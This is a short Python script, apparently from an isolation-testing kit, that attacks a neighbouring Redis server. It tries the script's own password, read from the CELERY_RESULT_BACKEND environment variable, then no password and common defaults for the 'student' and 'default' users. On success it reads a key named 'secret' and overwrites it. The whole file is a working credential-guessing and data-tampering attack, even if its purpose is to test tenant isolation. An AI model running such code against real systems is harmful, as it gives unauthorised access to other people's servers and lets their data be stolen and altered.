"""Tries its own password, none and the usual ones on a server next door."""

import os
from urllib.parse import urlsplit

from attack_kit import FACTS, loot, ran, tried, won
from redis import Redis
from redis.backoff import NoBackoff
from redis.retry import Retry

ran()
host, port = FACTS["neighbour"]
own = urlsplit(os.environ["CELERY_RESULT_BACKEND"]).password
for user in ("student", "default"):
    for password in (own, None, "student", "password"):
        once = Retry(NoBackoff(), 0)
        client = Redis(host, port, 0, password, 1, 1, username=user, retry=once)
        if tried(client.ping):
            won(f"{user} with {password}")
            loot(tried(client.get, "secret"))
            tried(client.set, "secret", "changed")
